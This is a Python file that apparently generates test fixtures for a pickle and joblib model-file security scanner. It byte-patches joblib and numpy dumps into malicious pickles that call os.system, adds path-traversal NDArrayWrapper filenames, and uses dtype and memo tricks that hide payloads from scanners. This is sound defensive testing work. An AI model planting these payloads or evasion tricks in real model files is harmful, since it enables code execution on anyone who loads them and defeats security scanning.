"""Issue 10, rules 4 and 5 on the pickle side: files written by the real writers (joblib.dump, numpy's .npy
writer with Python's pickler), byte-patched where the attack needs it. Nothing is loaded: joblib and numpy
only write here, and every pickle is checked with pickletools by the corpus."""

import io
import pickle
import re
import struct

import numpy as np
from numpy.lib import format as npy_format

from pickle_asm import CMD, proto, text

S = "safe"


def joblib_bytes(value):
    import joblib

    buffer = io.BytesIO()
    joblib.dump(value, buffer)
    return buffer.getvalue()


def build(c):
    # Rule 4: a joblib dump named .pkl is judged as joblib (the name used to pick plain data, and the blanket
    # `joblib` denylist entry made its wrapper dangerous).
    dump = joblib_bytes({"weights": np.arange(12, dtype=np.float64).reshape(3, 4), "labels": ["a", "b"]})
    c.add("benign/joblib/model_named.pkl", dump, S, "joblib.dump saved as .pkl: the wrapper selects joblib (rule 4)")

    # Rule 4 / item 2: a numpy object array written by a Python 2 style np.save (protocol 2 pickle, so bytes are
    # `_codecs.encode` and ranges `builtins.range`) with the newline np.load never reads after STOP.
    array = np.empty(3, dtype=object)
    array[:] = [range(3), b"bytes", {"k": 1.5}]
    out = io.BytesIO()
    npy_format.write_array_header_1_0(out, npy_format.header_data_from_array_1_0(array))
    pickle.dump(array, out, protocol=2)
    out.write(b"\n")
    c.add("benign/numpy/py2_object_array_newline.npy", out.getvalue(), S,
          "object array, protocol 2 (range, _codecs.encode), one newline after STOP as np.load reads it")

    # Rule 5: NDArrayWrapper makes joblib np.load(os.path.join(folder, filename), allow_pickle=True).
    for rel, filename, verdict, why in [
        ("pickle/joblib/ndarraywrapper_sibling.pkl", "model.pkl_01.npy", "suspicious",
         "pre-0.10 NDArrayWrapper naming a sibling file: suspicious, the sibling is scanned on its own"),
        ("pickle/joblib/ndarraywrapper_escape.pkl", "../../../../tmp/evil.npy", "dangerous",
         "NDArrayWrapper naming a path out of the model's folder: np.load(allow_pickle=True) of any file"),
        ("pickle/joblib/ndarraywrapper_absolute.pkl", "/tmp/evil.npy", "dangerous",
         "NDArrayWrapper naming an absolute path (os.path.join drops the folder)"),
    ]:
        body = (proto(2) + b"cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}" + text("filename", 2) + text(filename, 2)
                + b"s" + b"b.")
        blob = c.pickle(f"NDArrayWrapper {filename}", body, ops=("BUILD",))
        c.add(rel, blob, verdict, why + " (rule 5)")

    c.add("pickle/joblib/dtype_itemsize_hidden_payload.joblib", dtype_itemsize_attack(c), "malformed",
          "joblib dump whose 'S1' dtype state says elsize 2: joblib reads 16 bytes, the type string says 8, and "
          "the 8 in between hide a BINBYTES that swallows an os.system call joblib runs (rule 5: never skip bytes "
          "the pickle does not size)", accept=["dangerous"])
    c.add("pickle/joblib/dtype_itemsize_zero_payload.joblib", dtype_itemsize_zero_attack(c), "dangerous",
          "joblib dump whose 'S1' array bytes are an os.system call and whose dtype state says elsize 0: joblib "
          "reads no array bytes and runs them as opcodes; a reader that skips by the type string never sees them",
          "os.system")
    c.add("pickle/joblib/wrapper_state_from_memo.joblib", memo_state_attack(c), "malformed",
          "joblib wrapper whose BUILD state is fetched from the memo: joblib reads the 64 array bytes after BUILD, "
          "whose BINBYTES (for a reader that parses them) swallows the os.system call joblib runs next (found by a "
          "red-team pass; rule 5)", accept=["dangerous"])


def memo_state_attack(c):
    """A NumpyArrayWrapper state dict built first, stored with BINPUT and fetched with BINGET right before BUILD,
    so it is not built in place above the wrapper; then 64 uint8 array bytes that start a BINBYTES covering the
    payload, which joblib (having read the 64 bytes) unpickles."""
    def u(value):
        raw = value.encode()
        return b"X" + struct.pack("<I", len(raw)) + raw
    count = 64
    body = proto(2) + b"}(" + u("subclass") + b"cnumpy\nndarray\n" + u("shape") + b"J" + struct.pack("<i", count)
    body += b"\x85" + u("order") + u("C") + u("dtype") + b"cnumpy\ndtype\n" + u("u1") + b"\x89\x88\x87R"
    body += b"(K\x03" + u("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb" + u("allow_mmap") + b"\x89"
    body += b"u" + b"q\x00" + b"0" + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + b"h\x00" + b"b"
    payload = b"0" + b"cposix\nsystem\n(" + text(CMD, 2) + b"tR."
    array = b"B" + struct.pack("<I", (count - 5) + len(payload)) + bytes(count - 5)
    return c.pickle("joblib wrapper state from the memo", body + array + payload + b"0.")


def dtype_itemsize_attack(c):
    """joblib.dump of eight 'A's as 'S1', then: elsize 1 -> 2 in the dtype's BUILD state, so joblib reads 16 data
    bytes. Bytes 8..16 start a BINBYTES (for a reader that skips 8) covering the payload that joblib, having read
    16, runs; a POP after it drops its result for both readers."""
    dump = joblib_bytes(np.frombuffer(b"AAAAAAAA", dtype="S1"))
    state = re.search(rb"NNNK\x01K\x01K\x00t", dump)
    assert state, "the S1 dtype state is not where joblib 1.6 writes it"
    patched = dump[: state.start() + 3] + b"K\x02" + dump[state.start() + 5:]
    data = patched.index(b"AAAAAAAA")
    payload = text("posix", 4) + text("system", 4) + b"\x93" + text(CMD, 4) + b"\x85R"
    hidden = b"B" + struct.pack("<I", 3 + len(payload)) + b"zzz"
    blob = patched[: data + 8] + hidden + payload + b"0" + patched[data + 8:]
    return c.pickle("dtype itemsize attack", blob, broken=True)


def dtype_itemsize_zero_attack(c):
    """The array's own bytes are the payload (and a POP); elsize 1 -> 0 makes joblib read none of them."""
    payload = text("posix", 4) + text("system", 4) + b"\x93" + text(CMD, 4) + b"\x85R0"
    dump = joblib_bytes(np.frombuffer(payload, dtype="S1"))
    state = re.search(rb"NNNK\x01K\x01K\x00t", dump)
    assert state and payload in dump, "the S1 dtype state is not where joblib 1.6 writes it"
    blob = dump[: state.start() + 3] + b"K\x00" + dump[state.start() + 5:]
    return c.pickle("dtype itemsize zero attack", blob, broken=True)
